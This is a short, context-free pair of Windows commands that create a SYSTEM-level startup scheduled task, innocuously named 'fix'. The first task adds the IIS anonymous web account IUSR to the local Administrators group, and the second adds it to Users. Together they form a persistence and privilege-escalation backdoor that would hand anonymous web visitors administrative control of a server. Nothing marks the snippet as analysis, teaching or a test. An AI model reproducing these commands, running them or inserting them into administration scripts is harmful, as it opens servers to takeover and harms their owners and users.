schtasks /create /tn fix /sc onstart /ru SYSTEM /tr "net localgroup Administrators IUSR /add" /f
schtasks /create /tn fix /sc onstart /ru SYSTEM /tr "net localgroup Users IUSR /add" /f
